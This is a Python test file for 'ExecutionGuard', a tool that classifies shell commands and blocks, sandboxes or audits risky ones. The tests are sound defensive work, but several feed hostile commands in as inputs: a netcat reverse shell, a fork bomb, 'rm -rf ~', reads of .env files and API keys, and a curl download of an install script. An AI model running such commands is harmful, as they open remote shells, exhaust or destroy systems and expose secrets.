"""
Tests for ExecutionGuard - evaluation order, approval and audit.

Covers:
- Determinism and critical-gate precedence
- Guard-level approval, bypass and trust store handling
- Repeat protection driven by the persisted command log
- Interactive approval as a separate resolve step
- Dispatch to host or sandbox and the audit record
"""

from dataclasses import replace
from datetime import timedelta
from unittest.mock import MagicMock

import pytest

from execguard.analyzer import CommandAnalyzer
from execguard.config import GuardConfig, SandboxConfig
from execguard.errors import ApprovalRequiredError
from execguard.guard.orchestrator import (
    BLOCK_CRITICAL,
    BLOCK_EXTERNAL_HTTP,
    BLOCK_GUARD_LEVEL,
    BLOCK_REPEAT,
    BLOCK_SUDO,
    BLOCK_USER_DENIED,
    POLICY_EXIT_CODE,
    Approval,
    ExecutionGuard,
    GuardContext,
)
from execguard.guard.types import Action, ExecutionTarget, GuardState, Severity

from conftest import FailingClassifier, RecordingRunner, StubClassifier, finding

VALID_BYPASS = "emergency-override-december"
ALL_LEVELS = ["off", "low", "medium", "high", "paranoid"]


class TestDeterminism:
    def test_same_inputs_same_decision(self, make_guard, make_ctx, session_id):
        guard = make_guard([finding("RISKY_GIT_OPERATION", "high")])
        ctx = make_ctx("medium", bypass_value="bypass1234")
        first = guard.evaluate("git", ["push", "-f"], session_id, ctx)
        second = guard.evaluate("git", ["push", "-f"], session_id, ctx)
        assert first.decision == second.decision

    def test_evaluate_has_no_side_effects(self, make_guard, make_ctx, store, session_id, host_runner):
        guard = make_guard([finding("SUDO_USAGE", "medium")])
        guard.evaluate("sudo", ["ls"], session_id, make_ctx("off"))
        assert host_runner.calls == []
        assert store.load_history(session_id) == []


class TestCriticalGate:
    @pytest.mark.parametrize("level", ALL_LEVELS)
    def test_blocks_without_sandbox_at_every_level(self, make_guard, make_ctx, level):
        guard = make_guard([finding("DOTENV_FILE_READ", "critical"), finding("SUDO_USAGE", "medium")])
        ctx = make_ctx(level, bypass_value=VALID_BYPASS, interactive=True)
        evaluation = guard.evaluate("cat", [".env"], None, ctx)
        assert evaluation.decision.action == Action.BLOCK
        assert evaluation.decision.triggered_codes == ("DOTENV_FILE_READ",)
        assert evaluation.block_reason == BLOCK_CRITICAL
        assert evaluation.state == GuardState.BLOCKED

    def test_sandbox_available_forces_sandbox_target(self, make_guard, make_ctx):
        guard = make_guard([finding("FORK_BOMB", "critical")])
        evaluation = guard.evaluate(":(){ :|:& };:", [], None, make_ctx("off", sandbox_available=True))
        assert evaluation.decision.action == Action.ALLOW
        assert evaluation.target == ExecutionTarget.SANDBOX
        assert evaluation.gate_codes == ("FORK_BOMB",)

    def test_bypass_ignored_for_gated_command(self, make_guard, make_ctx):
        guard = make_guard([finding("DANGEROUS_DELETE_HOME", "critical")])
        ctx = make_ctx("medium", bypass_value=VALID_BYPASS, sandbox_available=True)
        evaluation = guard.evaluate("rm", ["-rf", "~"], None, ctx)
        assert evaluation.decision.action == Action.BLOCK
        assert evaluation.block_reason == BLOCK_GUARD_LEVEL
        assert not evaluation.bypass_used
        assert "bypass ignored for critical command" in evaluation.decision.reasons

    def test_trust_ignored_for_gated_command(self, make_guard, make_ctx, trust_store):
        trust_store.add("cat .env")
        guard = make_guard([finding("DOTENV_FILE_READ", "critical")])
        evaluation = guard.evaluate("cat", [".env"], None, make_ctx("medium", sandbox_available=True))
        assert evaluation.decision.action == Action.BLOCK
        assert not evaluation.trusted

    def test_gated_approval_runs_in_sandbox(self, make_guard, make_ctx, sandbox_runner, host_runner):
        guard = make_guard([finding("SENSITIVE_ENV_ACCESS", "critical")])
        ctx = make_ctx("medium", sandbox_available=True, interactive=True)
        result = guard.run("echo", ["$API_KEY"], None, ctx, approver=lambda e: Approval.APPROVE)
        assert result.state == GuardState.EXECUTED
        assert sandbox_runner.calls == [("echo", ["$API_KEY"])]
        assert host_runner.calls == []


class TestScenarios:
    def test_force_push_to_production_is_blocked(self, store, session_id, make_ctx, host_runner):
        guard = ExecutionGuard([CommandAnalyzer()], store=store, host_runner=host_runner)
        ctx = make_ctx("medium")
        result = guard.run("git", ["push", "--force", "origin", "production"], session_id, ctx)

        evaluation = result.evaluation
        assert evaluation.base_risk == Severity.HIGH
        assert evaluation.production_marker == "production"
        assert evaluation.risk == Severity.CRITICAL
        assert evaluation.decision.action == Action.BLOCK
        assert "RISKY_GIT_OPERATION" in evaluation.decision.triggered_codes
        assert result.state == GuardState.DENIED
        assert result.exit_code == POLICY_EXIT_CODE
        assert host_runner.calls == []

        [record] = store.load_history(session_id)
        assert record.approved is False
        assert record.metadata["blocked"] is True
        assert record.metadata["block_reason"] == BLOCK_GUARD_LEVEL

    @pytest.mark.parametrize("level", ["low", "medium", "high", "paranoid"])
    def test_escalated_block_names_its_findings(self, make_ctx, level):
        guard = ExecutionGuard([CommandAnalyzer()])
        evaluation = guard.evaluate("git", ["push", "--force", "origin", "production"], None, make_ctx(level))
        assert evaluation.risk == Severity.CRITICAL
        assert evaluation.decision.action == Action.BLOCK
        assert "RISKY_GIT_OPERATION" in evaluation.decision.triggered_codes

    def test_escalation_at_low_keeps_lower_findings_hidden(self, make_guard, make_ctx):
        guard = make_guard([finding("RISKY_GIT_OPERATION", "high"), finding("SUDO_USAGE", "medium")])
        evaluation = guard.evaluate("git", ["reset", "--hard", "production"], None, make_ctx("low"))
        assert evaluation.risk == Severity.CRITICAL
        assert evaluation.decision.triggered_codes == ("RISKY_GIT_OPERATION",)

    def test_paranoid_echo_approved_runs_on_host(self, store, session_id, make_ctx, host_runner):
        guard = ExecutionGuard([CommandAnalyzer()], store=store, host_runner=host_runner)
        ctx = make_ctx("paranoid", interactive=True)

        evaluation = guard.evaluate("echo", ["hello"], session_id, ctx)
        assert evaluation.state == GuardState.AWAITING_APPROVAL
        assert evaluation.decision.action == Action.REQUIRE_APPROVAL

        approved = guard.resolve_approval(evaluation, approved=True)
        assert approved.decision.action == Action.ALLOW
        result = guard.execute(approved, session_id, ctx)

        assert result.state == GuardState.EXECUTED
        assert host_runner.calls == [("echo", ["hello"])]
        [record] = store.load_history(session_id)
        assert record.approved is True
        assert record.metadata["execution"] == "host"
        assert record.metadata["approval"] == "operator"


class TestGuardLevelApproval:
    @pytest.mark.parametrize(
        "level,severity,action",
        [
            ("off", "critical", Action.ALLOW),
            ("low", "high", Action.ALLOW),
            ("low", "critical", Action.BLOCK),
            ("medium", "medium", Action.ALLOW),
            ("medium", "high", Action.BLOCK),
            ("high", "medium", Action.BLOCK),
            ("high", "low", Action.ALLOW),
            ("paranoid", "low", Action.BLOCK),
        ],
    )
    def test_non_interactive(self, make_guard, make_ctx, level, severity, action):
        guard = make_guard([finding("REVERSE_SHELL", severity)])
        evaluation = guard.evaluate("nc", ["-e", "/bin/sh", "host"], None, make_ctx(level))
        assert evaluation.decision.action == action

    def test_off_reports_no_codes(self, make_guard, make_ctx):
        guard = make_guard([finding("DESTRUCTIVE_INFRA", "high")])
        evaluation = guard.evaluate("terraform", ["destroy"], None, make_ctx("off"))
        assert evaluation.decision.triggered_codes == ()

    def test_interactive_awaits_approval(self, make_guard, make_ctx):
        guard = make_guard([finding("DESTRUCTIVE_INFRA", "high")])
        evaluation = guard.evaluate("terraform", ["destroy"], None, make_ctx("medium", interactive=True))
        assert evaluation.awaiting_approval
        assert evaluation.approval == "pending"

    def test_execute_before_resolve_raises(self, make_guard, make_ctx):
        guard = make_guard([finding("DESTRUCTIVE_INFRA", "high")])
        ctx = make_ctx("medium", interactive=True)
        evaluation = guard.evaluate("terraform", ["destroy"], None, ctx)
        with pytest.raises(ApprovalRequiredError):
            guard.execute(evaluation, None, ctx)

    def test_run_without_approver_denies(self, make_guard, make_ctx, host_runner):
        guard = make_guard([finding("DESTRUCTIVE_INFRA", "high")])
        result = guard.run("terraform", ["destroy"], None, make_ctx("medium", interactive=True))
        assert result.state == GuardState.DENIED
        assert result.evaluation.block_reason == BLOCK_USER_DENIED
        assert host_runner.calls == []


class TestBypass:
    def test_valid_bypass_allows(self, make_guard, make_ctx, host_runner):
        guard = make_guard([finding("DATABASE_OPERATION", "high")])
        result = guard.run("psql", ["-c", "DROP TABLE t"], None, make_ctx("medium", bypass_value=VALID_BYPASS))
        assert result.evaluation.bypass_used
        assert result.evaluation.approval == "bypass"
        assert result.state == GuardState.EXECUTED
        assert result.record.metadata["bypass"] is True

    @pytest.mark.parametrize("value", ["bypass1234", "short", "agent-override-now"])
    def test_invalid_bypass_falls_through(self, make_guard, make_ctx, value):
        guard = make_guard([finding("DATABASE_OPERATION", "high")])
        evaluation = guard.evaluate("psql", [], None, make_ctx("medium", bypass_value=value))
        assert evaluation.decision.action == Action.BLOCK
        assert "bypass value rejected" in evaluation.decision.reasons

    def test_bypass_disabled_in_config(self, make_guard, make_ctx):
        config = GuardConfig()
        config = replace(config, guard_level=replace(config.guard_level, allow_user_bypass=False))
        guard = make_guard([finding("DATABASE_OPERATION", "high")])
        evaluation = guard.evaluate("psql", [], None, make_ctx("medium", bypass_value=VALID_BYPASS, config=config))
        assert evaluation.decision.action == Action.BLOCK
        assert not evaluation.bypass_used


class TestTrust:
    def test_trusted_command_allowed(self, make_guard, make_ctx, trust_store, now):
        trust_store.add("helm uninstall api")
        guard = make_guard([finding("DESTRUCTIVE_INFRA", "high")])
        result = guard.run("helm", ["uninstall", "api"], None, make_ctx("medium"))
        assert result.evaluation.trusted
        assert result.state == GuardState.EXECUTED
        assert trust_store.get("helm uninstall api").use_count == 1

    def test_remember_adds_to_trust_store(self, make_guard, make_ctx, trust_store):
        guard = make_guard([finding("DESTRUCTIVE_INFRA", "high")])
        ctx = make_ctx("medium", interactive=True)
        guard.run("helm", ["uninstall", "api"], None, ctx, approver=lambda e: Approval.REMEMBER)
        assert trust_store.is_trusted("helm uninstall api")
        second = guard.evaluate("helm", ["uninstall", "api"], None, make_ctx("medium"))
        assert second.decision.action == Action.ALLOW


class TestRepeatProtection:
    def run_times(self, guard, command, args, session_id, make_ctx, now, level, times):
        results = []
        for i in range(times):
            ctx = make_ctx(level, at=now + timedelta(seconds=i))
            results.append(guard.run(command, args, session_id, ctx))
        return results

    def test_sensitive_low_risk_blocked_on_fourth(self, make_guard, make_ctx, session_id, now, host_runner):
        guard = make_guard([])
        results = self.run_times(guard, "rm", ["-rf", "/tmp/a"], session_id, make_ctx, now, "medium", 5)
        actions = [r.decision.action for r in results]
        assert actions == [Action.ALLOW, Action.ALLOW, Action.WARN, Action.BLOCK, Action.BLOCK]
        assert results[3].evaluation.block_reason == BLOCK_REPEAT
        assert len(host_runner.calls) == 3

    def test_repeat_block_applies_at_level_off(self, make_guard, make_ctx, session_id, now):
        guard = make_guard([finding("DESTRUCTIVE_INFRA", "high")])
        results = self.run_times(guard, "terraform", ["destroy"], session_id, make_ctx, now, "off", 4)
        assert [r.decision.action for r in results] == [Action.ALLOW, Action.ALLOW, Action.WARN, Action.BLOCK]
        assert results[3].evaluation.repeat.count == 4

    def test_retried_append_not_double_counted(self, make_guard, make_ctx, store, session_id, now):
        guard = make_guard([])
        result = guard.run("rm", ["-rf", "/tmp/a"], session_id, make_ctx("medium"))
        assert store.append_command(session_id, result.record) is False
        evaluation = guard.evaluate("rm", ["-rf", "/tmp/a"], session_id, make_ctx("medium", at=now + timedelta(seconds=1)))
        assert evaluation.repeat.count == 2

    def test_no_session_means_no_history(self, make_guard, make_ctx, now):
        guard = make_guard([])
        results = [guard.run("rm", ["x"], None, make_ctx("medium", at=now + timedelta(seconds=i))) for i in range(5)]
        assert all(r.state == GuardState.EXECUTED for r in results)


class TestDegradedMode:
    def test_classifier_failure_does_not_block(self, make_guard, make_ctx):
        guard = make_guard(classifiers=[FailingClassifier(), StubClassifier([finding("SUDO_USAGE", "medium")])])
        evaluation = guard.evaluate("sudo", ["ls"], None, make_ctx("medium", allow_sudo=True))
        assert evaluation.decision.action == Action.ALLOW
        assert evaluation.risk == Severity.MEDIUM
        assert evaluation.degraded and "unavailable" in evaluation.degraded[0]

    def test_store_failure_still_executes(self, make_ctx, host_runner):
        store = MagicMock()
        store.load_history.return_value = []
        store.append_command.side_effect = RuntimeError("disk full")
        guard = ExecutionGuard([StubClassifier()], store=store, host_runner=host_runner)
        result = guard.run("ls", [], "session-x", make_ctx("medium"))
        assert result.state == GuardState.EXECUTED
        assert host_runner.calls == [("ls", [])]

    def test_history_failure_noted(self, make_ctx, host_runner):
        store = MagicMock()
        store.load_history.side_effect = RuntimeError("locked")
        guard = ExecutionGuard([StubClassifier()], store=store, host_runner=host_runner)
        evaluation = guard.evaluate("ls", [], "session-x", make_ctx("medium"))
        assert evaluation.decision.action == Action.ALLOW
        assert any("history unavailable" in r for r in evaluation.decision.reasons)


class TestExecutionTarget:
    def sandbox_config(self, mode):
        return replace(GuardConfig(), sandbox=SandboxConfig(mode=mode))

    @pytest.mark.parametrize(
        "mode,severity,available,target",
        [
            ("auto", "critical", True, ExecutionTarget.SANDBOX),
            ("auto", "critical", False, ExecutionTarget.HOST),
            ("auto", "high", True, ExecutionTarget.HOST),
            ("risky", "high", True, ExecutionTarget.SANDBOX),
            ("risky", "medium", True, ExecutionTarget.HOST),
            ("always", "low", True, ExecutionTarget.SANDBOX),
            ("never", "critical", True, ExecutionTarget.HOST),
        ],
    )
    def test_mode(self, make_guard, make_ctx, mode, severity, available, target):
        guard = make_guard([finding("REVERSE_SHELL", severity)])
        ctx = make_ctx("off", sandbox_available=available, config=self.sandbox_config(mode))
        assert guard.evaluate("nc", [], None, ctx).target == target


class TestAuditRecord:
    def test_exit_code_and_metadata(self, make_ctx, store, session_id, now):
        runner = RecordingRunner(exit_code=7)
        guard = ExecutionGuard([StubClassifier([finding("SUDO_USAGE", "medium")])], store=store, host_runner=runner)
        result = guard.run("sudo", ["make", "install"], session_id, make_ctx("medium", allow_sudo=True))
        assert result.exit_code == 7

        [record] = store.load_history(session_id)
        assert record.timestamp == now
        assert record.exit_code == 7
        assert record.risk_level == "medium"
        assert record.findings == ["SUDO_USAGE"]
        assert record.metadata["source"] == "execguard"
        assert record.metadata["guard_level"] == "medium"
        assert record.metadata["blocked"] is False
        assert record.metadata["action"] == "allow"

    def test_denied_record_has_no_exit_code(self, make_guard, make_ctx, store, session_id):
        guard = make_guard([finding("DESTRUCTIVE_INFRA", "high")])
        result = guard.run("terraform", ["destroy"], session_id, make_ctx("medium"))
        assert result.record.exit_code is None
        assert result.record.metadata["execution"] == "none"


class TestGuardContext:
    def test_auto_level_reads_environment(self, tmp_path, now):
        ctx = GuardContext.from_environment(
            GuardConfig(),
            command_text="ls",
            env={"APP_ENV": "production", "EXECGUARD_BYPASS": VALID_BYPASS},
            cwd=str(tmp_path),
            now=now,
        )
        assert ctx.level.value == "high"
        assert ctx.bypass_value == VALID_BYPASS
        assert ctx.now == now

    def test_explicit_level(self, tmp_path):
        ctx = GuardContext.from_environment(GuardConfig().with_level("low"), env={}, cwd=str(tmp_path))
        assert ctx.level.value == "low"
        assert ctx.bypass_value is None

    def test_opt_in_variables(self, tmp_path):
        env = {"EXECGUARD_ALLOW_SUDO": "1", "EXECGUARD_ALLOW_NET": ""}
        ctx = GuardContext.from_environment(GuardConfig().with_level("medium"), env=env, cwd=str(tmp_path))
        assert ctx.allow_sudo is True
        assert ctx.allow_net is False


class TestExecRestrictions:
    def test_sudo_blocked_despite_overrides(self, make_guard, make_ctx, trust_store):
        trust_store.add("sudo ls")
        guard = make_guard([finding("SUDO_USAGE", "medium")])
        ctx = make_ctx("medium", bypass_value=VALID_BYPASS, interactive=True)
        evaluation = guard.evaluate("sudo", ["ls"], None, ctx)
        assert evaluation.decision.action == Action.BLOCK
        assert evaluation.block_reason == BLOCK_SUDO
        assert "EXECGUARD_ALLOW_SUDO" in evaluation.decision.reasons[-1]

    def test_sudo_by_path_is_blocked(self, make_guard, make_ctx):
        evaluation = make_guard([]).evaluate("/usr/bin/sudo", ["id"], None, make_ctx("low"))
        assert evaluation.block_reason == BLOCK_SUDO

    def test_sudo_allowed_when_opted_in(self, make_guard, make_ctx):
        evaluation = make_guard([]).evaluate("sudo", ["ls"], None, make_ctx("medium", allow_sudo=True))
        assert evaluation.decision.action == Action.ALLOW

    def test_sudo_not_checked_when_guard_off(self, make_guard, make_ctx):
        evaluation = make_guard([]).evaluate("sudo", ["ls"], None, make_ctx("off"))
        assert evaluation.decision.action == Action.ALLOW
        assert evaluation.block_reason is None

    @pytest.mark.parametrize("level", ALL_LEVELS)
    def test_external_http_blocked_at_every_level(self, make_guard, make_ctx, level):
        guard = make_guard([])
        ctx = make_ctx(level, bypass_value=VALID_BYPASS, interactive=True)
        evaluation = guard.evaluate("curl", ["-s", "https://example.com/install.sh"], None, ctx)
        assert evaluation.decision.action == Action.BLOCK
        assert evaluation.block_reason == BLOCK_EXTERNAL_HTTP
        assert evaluation.target == ExecutionTarget.NONE

    @pytest.mark.parametrize(
        "url",
        ["http://localhost:3000/health", "http://127.0.0.1:8080", "http://[::1]:8080/api"],
    )
    def test_loopback_urls_allowed(self, make_guard, make_ctx, url):
        evaluation = make_guard([]).evaluate("curl", [url], None, make_ctx("medium"))
        assert evaluation.decision.action == Action.ALLOW

    def test_external_http_allowed_when_opted_in(self, make_guard, make_ctx):
        ctx = make_ctx("medium", allow_net=True)
        evaluation = make_guard([]).evaluate("curl", ["https://example.com"], None, ctx)
        assert evaluation.decision.action == Action.ALLOW

    def test_block_is_audited(self, make_guard, make_ctx, store, session_id, host_runner):
        guard = make_guard([])
        result = guard.run("wget", ["http://downloads.example.org/tool.tgz"], session_id, make_ctx("medium"))
        assert result.exit_code == POLICY_EXIT_CODE
        assert host_runner.calls == []
        [record] = store.load_history(session_id)
        assert record.approved is False
        assert record.metadata["block_reason"] == BLOCK_EXTERNAL_HTTP
